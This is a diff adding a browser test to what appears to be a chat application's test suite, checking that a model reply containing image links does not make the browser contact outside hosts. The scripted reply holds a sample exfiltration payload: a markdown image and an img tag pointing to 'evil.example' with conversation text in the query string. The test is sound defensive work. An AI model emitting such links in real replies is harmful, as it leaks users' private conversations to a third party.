@@ -84,3 +84,17 @@ def test_an_invented_number_never_reaches_the_screen(model_chat: Page, model: Sc
 
     expect(model_chat.locator('.turn[data-state="done"]')).to_have_count(1)
     assert "0800" not in model_chat.locator("body").inner_text()
+
+
+def test_a_reply_with_a_picture_link_makes_the_browser_ask_no_other_host(
+    model_chat: Page, model_server: Server, model: ScriptedLLM
+) -> None:
+    asked: list[str] = []
+    model_chat.on("request", lambda request: asked.append(request.url))
+    model.will(Ok("It sounds hard. ![x](http://evil.example/p.png?q=all_she_said) <img src='http://evil.example/q'> [1]. What else?"))
+
+    say(model_chat, TIRED)
+
+    own = (model_server.url, model_server.url.replace("http", "ws", 1), "data:", "blob:")
+    assert [url for url in asked if not url.startswith(own)] == []
+    assert "evil" not in model_chat.locator("body").inner_text()
